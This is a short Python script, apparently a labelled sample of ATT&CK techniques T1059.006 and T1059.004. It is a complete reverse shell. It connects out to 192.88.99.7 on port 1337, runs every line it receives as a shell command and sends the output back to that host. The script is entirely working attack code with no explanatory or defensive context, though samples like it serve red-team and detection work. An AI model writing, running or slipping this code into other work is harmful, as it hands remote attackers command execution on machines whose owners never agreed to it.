#!/usr/bin/env python3
# title: Python reads commands from a connection and has a shell run each, without giving it the socket
# technique: T1059.006 T1059.004
# needs: python3

import socket, subprocess
s = socket.create_connection(("192.88.99.7", 1337))
for line in s.makefile():
    if line.strip() == "exit":
        break
    done = subprocess.run(line, shell=True, capture_output=True)
    s.sendall(done.stdout)
